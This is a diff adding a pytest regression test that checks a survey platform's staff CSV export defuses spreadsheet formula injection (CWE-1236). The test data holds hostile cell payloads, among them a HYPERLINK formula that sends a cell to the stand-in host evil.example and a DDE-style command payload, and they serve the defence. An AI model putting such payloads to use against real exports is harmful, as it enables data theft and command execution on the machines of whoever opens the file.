@@ -3,6 +3,8 @@ surveys, consultations): each test is a defect found by an attacker, failing bef
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 from typing import Any
 from urllib.parse import urlsplit
@@ -12,6 +14,7 @@ import pytest
 
 from tests.documents.stories import PDF, project_with_odile, upload
 from tests.polls.stories import town
+from tests.surveys.stories import EXPORT, codes, full_answers, ok, opened_survey, submit
 
 BY_REFERENCE = """query($s: String!, $r: String!) { territory(slug: $s) {
   questionByReference(reference: $r) { id }
@@ -42,3 +45,26 @@ async def test_a_draft_url_with_a_superscript_expiry_is_a_403(gql: Any, http: ht
         response = await http.get(path, params={"expires": expires, "signature": "abc"})
         assert response.status_code == 403, (expires, response.text)
         assert PDF not in response.content
+
+
+async def test_a_survey_answer_is_no_formula_in_the_staff_csv(gql: Any) -> None:
+    """CSV injection (CWE-1236): alice's text answer `=HYPERLINK(...)` reached odile's export
+    as a cell a spreadsheet runs as a formula (it can send the sheet's other cells away).
+    Text cells starting with = + - @ (or a tab or CR) are exported behind a quote; the JSON
+    export and the results keep the answer as written."""
+    t = await town()
+    survey = await opened_survey(gql, t.odile.token, t.gid)
+    sid = survey["id"]
+    evil = ['=HYPERLINK("https://evil.example/?"&A2,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)"]
+    for token, text in zip((t.alice.token, t.bob.token, t.vera.token, t.mona.token), evil, strict=True):
+        assert codes(await submit(gql, token, sid, full_answers(survey, 0, stop=text, extra=text))) == []
+    exported = (await ok(gql, EXPORT, "exportSurveyResponses", {"input": {"surveyId": sid, "format": "CSV"}},
+                         t.odile.token))["export"]
+    rows = list(csv.reader(io.StringIO(exported["content"])))
+    assert exported["responses"] == 4
+    cells = [cell for row in rows for cell in row]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
+    assert sorted(row[2] for row in rows[1:]) == sorted("'" + text for text in evil)
+    as_json = json.loads((await ok(gql, EXPORT, "exportSurveyResponses", {"input": {"surveyId": sid, "format": "JSON"}},
+                                   t.odile.token))["export"]["content"])
+    assert sorted(r[2] for r in as_json["responses"]) == sorted(evil)
